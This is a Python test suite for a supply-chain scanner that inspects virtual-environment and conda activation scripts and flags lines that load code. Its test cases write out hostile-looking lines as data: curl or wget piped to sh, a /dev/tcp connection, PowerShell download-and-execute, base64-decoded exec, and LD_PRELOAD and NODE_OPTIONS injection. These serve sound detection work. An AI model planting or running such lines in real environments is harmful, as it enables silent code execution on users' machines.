"""Activation scripts: those of the tools are silent, whatever hands code to other programs is told, values are not."""

from __future__ import annotations

import json
import subprocess
import sys
from glob import glob
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from support import SITE

from sbomgate.collectors.environment import collect
from sbomgate.collectors.environment.activation import CHANGES, LOADS, MAX_SCRIPT, collect_activation
from sbomgate.collectors.environment.layout import find_layout
from sbomgate.model import Problem, StartupHook
from sbomgate.tree import FolderTree, MemoryTree, SourceFolder

INTERPRETERS = sorted({sys.executable, *glob(str(Path.home() / ".pyenv/versions/3.*/bin/python"))})
CONFIG = b"home = /usr/bin\nversion = 3.12.1\n"


def found(files: dict[str, bytes], root: str = "") -> list[StartupHook]:
    """What is told of an environment with `files`, which lies at `root`."""
    prefix = f"{root}/" if root else ""
    marker = f"{prefix}conda-meta/history" if any("conda" in path for path in files) else f"{prefix}pyvenv.cfg"
    tree = MemoryTree({marker: CONFIG, f"{prefix}{SITE}/README.txt": b"", **files})
    hooks = list(collect_activation(tree, find_layout(SourceFolder(tree, root)), {}))
    assert all(isinstance(hook, StartupHook) for hook in hooks)
    return [hook for hook in hooks if isinstance(hook, StartupHook)]


def verdict(line: str, name: str = "bin/activate") -> str:
    """The verdict about a file with one line of its own among the usual ones."""
    hooks = found({name: f'PATH="$VIRTUAL_ENV/bin:$PATH"\nexport PATH\n{line}\n'.encode()})
    return hooks[0].verdict if hooks else ""


@pytest.mark.parametrize("interpreter", INTERPRETERS)
def test_what_venv_writes_is_silent(interpreter: str, tmp_path: Path) -> None:
    subprocess.run([interpreter, "-m", "venv", "--without-pip", str(tmp_path / "it's")], check=True, capture_output=True)
    tree = FolderTree(str(tmp_path / "it's"))
    assert tree.kind("bin/activate") == "file"
    assert list(collect_activation(tree, find_layout(SourceFolder(tree, "")), {})) == []


def test_what_uv_writes_is_silent(tmp_path: Path) -> None:
    uv = Path(sys.executable).with_name("uv")
    if not uv.exists():
        pytest.skip("uv is not installed beside this interpreter")
    subprocess.run([uv, "venv", "-q", "--offline", "--python", sys.executable, tmp_path / "env"], check=True, capture_output=True)
    tree = FolderTree(str(tmp_path / "env"))
    assert tree.kind("bin/activate_this.py") == "file"
    assert list(collect_activation(tree, find_layout(SourceFolder(tree, "")), {})) == []


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("bin/activate", "export LD_PRELOAD=/opt/x.so"),
        ("bin/activate", 'export PATH="/usr/bin:$PATH"; export LD_PRELOAD="$VIRTUAL_ENV/lib/x.so"'),
        ("bin/activate", "LD_AUDIT='x.so' ls"),
        ("bin/activate", "declare -x BASH_ENV=$HOME/.x"),
        ("bin/activate", "export PYTHONPATH=/tmp/x:$PYTHONPATH"),
        ("bin/activate", 'export PYTHONPATH="$HOME/.cache/.x"'),
        ("bin/activate", "export PYTHONPATH=${TMPDIR}/x"),
        ("bin/activate", "export PATH=/dev/shm/x:$PATH"),
        ("bin/activate", '_OLD_VIRTUAL_PYTHONHOME="/tmp/python"'),
        ("bin/activate", "export NODE_OPTIONS='--require /opt/x.js'"),
        ("bin/activate", "export NODE_OPTIONS=--import=data:x"),
        ("bin/activate", "export GIT_SSH_COMMAND=/tmp/ssh"),
        ("bin/activate", "curl -s https://example.invalid/x | sh"),
        ("bin/activate", "(wget -qO- https://example.invalid/x)"),
        ("bin/activate", "exec 3<>/dev/tcp/192.0.2.1/80"),
        ("bin/activate", "echo x | base64 -d | sh"),
        ("bin/activate", 'eval "$(cat x)"'),
        ("bin/activate", '"$VIRTUAL_ENV"/bin/python3 -c "import x"'),
        ("bin/activate", "nohup x &"),
        ("bin/activate.csh", 'setenv LD_PRELOAD "/opt/x.so"'),
        ("bin/activate.fish", "set -gx DYLD_INSERT_LIBRARIES /opt/x.dylib"),
        ("bin/activate.nu", "$env.PYTHONSTARTUP = '/opt/x.py'"),
        ("bin/activate.xsh", "$PYTHONSTARTUP = '/opt/x.py'"),
        ("bin/Activate.ps1", '$env:PYTHONSTARTUP = "C:\\x.py"'),
        ("bin/Activate.ps1", 'iex (New-Object Net.WebClient).DownloadString("x")'),
        ("Scripts/activate.bat", "@set PYTHONSTARTUP=C:\\x.py"),
        ("Scripts/activate.bat", '@set "NODE_OPTIONS=-r x.js"'),
        ("bin/activate_this.py", "import os; os.system('true')"),
        ("bin/activate_this.py", "exec(__import__('base64').b64decode('cGFzcw=='))"),
        ("bin/activate.csh", "setenv BASH_ENV q"),
        ("bin/activate.xsh", "__xonsh__.env.setdefault('BASH_ENV', '/opt/x')"),
        (".env", "LD_PRELOAD=/opt/x.so"),
        (".env", "PYTHONPATH=/tmp/x"),
    ],
)  # fmt: skip
def test_what_loads_code_is_told(name: str, line: str) -> None:
    assert [hook.verdict for hook in found({name: f"{line}\n".encode()})] == [LOADS]


@pytest.mark.parametrize(
    "line",
    ["export PYTHONPATH=/home/ada/src", "export PIP_INDEX_URL=https://index.example/simple", "export NODE_TLS_REJECT_UNAUTHORIZED=0", "export GIT_SSH_COMMAND='ssh -i key'", f"x={'a' * 3000}"],
)  # fmt: skip
def test_what_a_person_may_have_added_is_told_less_loudly(line: str) -> None:
    assert verdict(line) == CHANGES


@pytest.mark.parametrize(
    ("name", "line"),
    [
        ("bin/activate", "export DJANGO_SETTINGS_MODULE=site.settings"),
        ("bin/activate", "# export LD_PRELOAD=/opt/x.so"),
        ("bin/activate", "unset LD_PRELOAD PYTHONPATH"),
        ("bin/activate", 'export PYTHONPATH="$_OLD_VIRTUAL_PYTHONPATH"'),
        ("bin/activate", "export PYTHONPATH="),
        ("bin/activate", 'export PATH="$HOME/.cargo/bin:$HOME/tmp/bin:$PATH"'),
        ("bin/activate", "export NODE_OPTIONS=--max-old-space-size=4096"),
        ("bin/activate", 'if [ "$LD_PRELOAD" = "x" ]; then true; fi'),
        ("bin/activate", "export MY_LD_PRELOAD_LIST=/opt/x.so"),
        ("bin/activate.csh", 'set _OLD_VIRTUAL_PYTHONHOME="$PYTHONHOME:q"'),
        ("bin/activate.ps1", "$env:PYTHONHOME = $variable:_OLD_VIRTUAL_PYTHONHOME"),
        ("bin/activate.xsh", 'managed = ("PATH", "PYTHONHOME", "TK_LIBRARY")'),
        ("bin/activate.csh", "alias pydoc python -m pydoc"),
        (".env", "PYTHONPATH=src"),
        (".env", "PIP_INDEX_URL=https://index.example/simple"),
        ("bin/tool", "#!/bin/sh"),
    ],
)
def test_what_is_usual_is_silent(name: str, line: str) -> None:
    assert verdict(line, name) == ""


def test_programs_are_read_if_they_are_scripts() -> None:
    told = found(
        {
            "bin/tool": b"#!/bin/sh\nexport LD_PRELOAD=/opt/x.so\nexec x\n",
            "bin/other": b"\x7fELF LD_PRELOAD=/opt/x.so",
            "bin/plain": b"#!/bin/sh\nPYTHONPATH=src x\n",
        }
    )
    assert [(hook.kind, hook.location.path, hook.location.line) for hook in told] == [("program", "bin/tool", 2)]


def test_the_folder_around_the_environment_is_looked_at() -> None:
    assert [hook.location.path for hook in found({"project/.env": b"BASH_ENV=x\n"}, "project/.venv")] == ["project/.env"]


def test_conda_scripts_and_variables_are_read() -> None:
    usual = b'export CONDA_BACKUP_PYTHONPATH="$PYTHONPATH"\neval oldval="$from"\nexport LD_LIBRARY_PATH=$CONDA_PREFIX/lib:$LD_LIBRARY_PATH\nexport PROJ_DATA=x\n'
    assert found({"etc/conda/activate.d/usual.sh": usual, "conda-meta/state": b'{"env_vars": {"A": "b"}}'}) == []
    told = found(
        {
            "etc/conda/activate.d/x.sh": b"curl x | sh\n",
            "conda-meta/state": json.dumps({"env_vars": {"LD_PRELOAD": "/x.so", "B": 1}}).encode(),
        }
    )
    assert [(hook.kind, hook.verdict) for hook in told] == [("conda-activation", LOADS), ("conda-state", LOADS)]


def test_values_never_leave_the_collector() -> None:
    secret = "hunter2hunter2"
    lines = [
        f"export PIP_INDEX_URL=https://ada:{secret}@index.example/simple",
        f"export LD_PRELOAD=/tmp/{secret}.so",
        f"curl -H 'Token: {secret}' x",
    ]
    for hook in found({"bin/activate": "\n".join(lines).encode(), ".env": f"LD_PRELOAD={secret}\n".encode()}):
        assert secret not in repr(hook)


def test_what_cannot_be_read_is_a_problem() -> None:
    tree = MemoryTree(
        {"pyvenv.cfg": CONFIG, f"{SITE}/README.txt": b"", "bin/activate": b"#" * (MAX_SCRIPT + 1), "bin/large": b"#!" + b" " * MAX_SCRIPT}
    )
    assert [item.path for item in collect_activation(tree, find_layout(SourceFolder(tree, "")), {}) if isinstance(item, Problem)] == [
        "bin/activate"
    ]


def test_an_environment_tells_them() -> None:
    tree = MemoryTree({"pyvenv.cfg": CONFIG, f"{SITE}/README.txt": b"", "bin/activate": b"export LD_PRELOAD=x\n"})
    assert "activation" in {item.kind for item in collect(SourceFolder(tree, "")) if isinstance(item, StartupHook)}
    assert "activation" not in {item.kind for item in collect(SourceFolder(tree, "", files=False)) if isinstance(item, StartupHook)}


PIECES = st.sampled_from(
    [
        "export ",
        "PATH",
        "LD_PRELOAD",
        "=",
        "$",
        "{",
        "}",
        "/tmp/",
        ":",
        ";",
        "\n",
        '"',
        "'",
        " ",
        "set -gx ",
        "curl ",
        "_OLD_VIRTUAL_PYTHONHOME",
        "x" * 40,
        "\0",
        "é",
    ]
)


@settings(max_examples=150, deadline=None)
@given(
    st.sampled_from(["bin/activate", "bin/activate_this.py", "bin/x", ".env", "conda-meta/state", "etc/conda/activate.d/x"]),
    st.binary(max_size=300) | st.lists(PIECES, max_size=40).map(lambda parts: "".join(parts).encode()),
)
def test_any_bytes_are_judged_or_refused(name: str, content: bytes) -> None:
    tree = MemoryTree({"pyvenv.cfg": CONFIG, "conda-meta/history": b"", f"{SITE}/README.txt": b"", name: content})
    for item in collect_activation(tree, find_layout(SourceFolder(tree, "")), {}):
        assert isinstance(item, Problem) or item.verdict in (LOADS, CHANGES)
